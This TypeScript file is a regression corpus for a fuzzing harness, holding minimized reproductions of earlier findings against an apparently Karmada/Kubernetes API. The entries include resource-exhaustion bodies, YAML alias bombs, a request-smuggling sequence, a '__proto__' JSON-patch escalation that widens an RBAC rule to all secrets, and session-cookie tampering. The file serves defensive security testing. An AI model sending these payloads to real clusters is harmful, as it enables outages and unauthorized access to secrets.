/** Minimized sequences of earlier findings. They run first. */
import { PATCH_TYPES, type RawStep, request, setup, TENANT } from './steps'
import type { Sequence } from './target'
import { bindingsIn, editorOf, stageOf } from './targets/versions'
import { times } from './text'

export interface CorpusEntry {
  target: string
  what: string
  make(name: string): Sequence
}

const as = TENANT
const ROLES = '/apis/rbac.authorization.k8s.io/v1/namespaces/default/roles'
const CONFIG_MAPS = '/api/v1/namespaces/default/configmaps'

/** The lines of a request as they are sent, headers without Host; the last one is the body. */
function raw(first: string, ...rest: readonly string[]): RawStep {
  return { do: 'raw', bytes: Buffer.from([first, 'Host: a', ...rest].join('\r\n')).toString('base64') }
}

export const corpus: readonly CorpusEntry[] = [
  {
    target: 'bodies',
    what: 'a Deployment of two thousand million replicas, and a policy for it',
    make: (name) => ({
      name,
      steps: [
        request(
          'POST',
          '/apis/policy.karmada.io/v1alpha1/namespaces/default/propagationpolicies',
          {
            apiVersion: 'policy.karmada.io/v1alpha1',
            kind: 'PropagationPolicy',
            metadata: { name },
            spec: {
              resourceSelectors: [{ apiVersion: 'apps/v1', kind: 'Deployment', name }],
              placement: { clusterAffinity: { clusterNames: ['member1'] } },
            },
          },
          { as },
        ),
        request(
          'POST',
          '/apis/apps/v1/namespaces/default/deployments',
          {
            apiVersion: 'apps/v1',
            kind: 'Deployment',
            metadata: { name },
            spec: {
              replicas: 2_147_483_647,
              selector: { matchLabels: { app: name } },
              template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: 'c', image: 'i' }] } },
            },
          },
          { as },
        ),
        {
          do: 'wait',
          path: '/apis/cluster.karmada.io/v1alpha1/clusters/member1/proxy/apis/apps/v1/namespaces/default/replicasets',
          for: { text: name },
        },
      ],
      cleanup: [
        request('DELETE', `/apis/apps/v1/namespaces/default/deployments/${name}`),
        request('DELETE', `/apis/policy.karmada.io/v1alpha1/namespaces/default/propagationpolicies/${name}`),
      ],
    }),
  },
  {
    target: 'bodies',
    what: 'a Deployment with ten thousand variables',
    make: (name) => ({
      name,
      steps: [
        request(
          'POST',
          '/apis/apps/v1/namespaces/default/deployments',
          {
            apiVersion: 'apps/v1',
            kind: 'Deployment',
            metadata: { name },
            spec: {
              selector: { matchLabels: { app: name } },
              template: {
                metadata: { labels: { app: name } },
                spec: {
                  containers: [{ name: 'c', image: 'i', env: times(10_000, (n) => ({ name: `E${n}`, value: 'v' })) }],
                },
              },
            },
          },
          { as },
        ),
      ],
      cleanup: [request('DELETE', `/apis/apps/v1/namespaces/default/deployments/${name}`)],
    }),
  },
  {
    target: 'bodies',
    what: 'a Role of 300 × 300 × 300',
    make: (name) => ({
      name,
      steps: [
        request(
          'POST',
          ROLES,
          {
            apiVersion: 'rbac.authorization.k8s.io/v1',
            kind: 'Role',
            metadata: { name },
            rules: [
              {
                apiGroups: times(300, (n) => `g${n}`),
                resources: times(300, (n) => `r${n}`),
                verbs: times(300, (n) => `v${n}`),
              },
            ],
          },
          { as },
        ),
      ],
    }),
  },
  {
    target: 'bodies',
    what: 'a path longer than headers may be',
    make: (name) => ({ name, steps: [raw(`GET /${'a'.repeat(20_000)} HTTP/1.1`, '', '')] }),
  },
  {
    target: 'bodies',
    what: 'a request behind one that asks for another protocol',
    make: (name) => ({
      name,
      steps: [
        raw(
          'DELETE /api HTTP/1.1',
          'Connection: Upgrade',
          'Upgrade: SPDY/3.1',
          'Content-Length: 200000',
          '',
          '['.repeat(200_000),
        ),
        raw('GET /version HTTP/1.1', '', ''),
      ],
    }),
  },
  {
    target: 'versions',
    what: 'a text for the spec of a binding, through its first version',
    make: (name) => ({
      name,
      steps: [
        ...stageOf(name),
        request(
          'PATCH',
          `${bindingsIn(name, 'v1alpha1')}/w1-deployment`,
          { spec: 'a' },
          { as: editorOf(name), type: PATCH_TYPES.merge },
        ),
      ],
      cleanup: [request('DELETE', `/api/v1/namespaces/${name}`)],
    }),
  },
  {
    target: 'patches',
    what: 'copies that double',
    make: (name) => ({
      name,
      steps: [
        setup('POST', CONFIG_MAPS, {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name },
          data: { a: 'x'.repeat(1000) },
        }),
        request(
          'PATCH',
          `${CONFIG_MAPS}/${name}`,
          JSON.stringify(times(26, (n) => ({ op: 'copy', from: '/data', path: `/data/x${n}` }))),
          { as, type: PATCH_TYPES.json },
        ),
      ],
      cleanup: [request('DELETE', `${CONFIG_MAPS}/${name}`)],
    }),
  },
  {
    target: 'rbac',
    what: 'a rule under the name __proto__, widened afterwards',
    make: (name) => {
      const attacker = `${name}-attacker`
      const roles = `/apis/rbac.authorization.k8s.io/v1/namespaces/${name}/roles`
      const rule = { apiGroups: [''], resources: ['secrets'], verbs: ['get'], resourceNames: ['foo'] }
      return {
        name,
        actors: [attacker],
        steps: [
          setup('POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name } }),
          setup('POST', `/api/v1/namespaces/${name}/secrets`, {
            apiVersion: 'v1',
            kind: 'Secret',
            metadata: { name: 'bar' },
          }),
          setup('POST', roles, {
            apiVersion: 'rbac.authorization.k8s.io/v1',
            kind: 'Role',
            metadata: { name: 'own' },
            rules: [
              rule,
              { apiGroups: ['rbac.authorization.k8s.io'], resources: ['roles'], verbs: ['get', 'patch', 'update'] },
            ],
          }),
          setup('POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${name}/rolebindings`, {
            apiVersion: 'rbac.authorization.k8s.io/v1',
            kind: 'RoleBinding',
            metadata: { name: 'own' },
            roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'own' },
            subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: attacker }],
          }),
          request(
            'PATCH',
            `${roles}/own`,
            JSON.stringify([{ op: 'add', path: '/rules/0/__proto__', value: { ...rule, resourceNames: [] } }]),
            { as: attacker, type: PATCH_TYPES.json },
          ),
          request('PATCH', `${roles}/own`, JSON.stringify([{ op: 'remove', path: '/rules/0/resourceNames' }]), {
            as: attacker,
            type: PATCH_TYPES.json,
          }),
        ],
        cleanup: [request('DELETE', `/api/v1/namespaces/${name}`)],
      }
    },
  },
  ...[
    ['aliases', (n: number) => `a: &a {k: v}\nx:\n${'- *a\n'.repeat(n)}`, 20_000],
    ['flow collections', (n: number) => `x: ${'['.repeat(n)}`, 80_000],
    ['words on one line', (n: number) => `x: ${'a '.repeat(n)}`, 80_000],
    ['keys on one line', (n: number) => `x: ${'a:'.repeat(n)}`, 80_000],
  ].map(([what, make, count]): CorpusEntry => ({
    target: 'yaml',
    what: `YAML of a user without rights: ${String(what)}`,
    make: (name) => ({
      name,
      steps: [
        request(
          'POST',
          CONFIG_MAPS,
          `apiVersion: v1\nkind: ConfigMap\n${(make as (n: number) => string)(count as number)}`,
          { as: 'fuzz-nobody', type: 'application/yaml' },
        ),
      ],
    }),
  })),
  {
    target: 'selectors',
    what: 'a field that every object of JavaScript has',
    make: (name) => ({
      name,
      steps: [request('GET', `${CONFIG_MAPS}?fieldSelector=constructor%3Dx`, undefined, { as })],
    }),
  },
  {
    target: 'cookies',
    what: 'bytes behind the session cookie',
    make: (name) => ({
      name,
      steps: ['A', '=', '~', 'AA', '*'].map((insert) => ({
        do: 'cookie',
        cookie: '{name}={value}',
        change: { at: 1, remove: 0, insert },
      })),
    }),
  },
]
